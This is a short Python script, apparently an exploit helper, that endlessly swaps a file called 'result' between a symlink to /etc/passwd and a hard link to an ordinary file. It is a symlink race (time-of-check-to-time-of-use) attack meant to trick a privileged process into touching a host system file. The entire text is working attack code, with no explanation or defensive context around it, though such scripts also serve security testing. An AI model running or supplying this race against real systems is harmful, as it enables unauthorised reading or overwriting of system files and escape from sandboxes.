# Swaps a result for a link to a host file and back, as fast as it can, until it is stopped.
import os
open("real", "w").close()
while True:
    os.symlink("/etc/passwd", "next")
    os.rename("next", "result")
    os.link("real", "next")
    os.rename("next", "result")
